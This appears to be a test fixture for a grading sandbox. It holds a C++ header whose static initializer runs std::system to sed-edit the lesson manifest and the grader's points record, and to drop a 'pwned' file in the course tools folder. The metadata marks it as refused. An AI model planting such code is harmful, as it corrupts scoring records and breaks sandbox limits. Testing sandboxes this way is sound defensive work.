// attack: std::system runs a shell that edits the lesson's manifest, the grader's points record and the course's tools
// lesson: 01
// file: exercise.hpp
// refused: new processes and threads
// runtime: yes
// @top
#include <cstdlib>
// @inside
inline const int kShell = std::system(
    "sed -i 's/\"points\": 10/\"points\": 0/' " COURSE_EXERCISE_DIR "/lesson.json "
    COURSE_EXERCISE_DIR "/../../build/grade/course/points.json; "
    "touch " COURSE_EXERCISE_DIR "/../../tools/course/pwned");
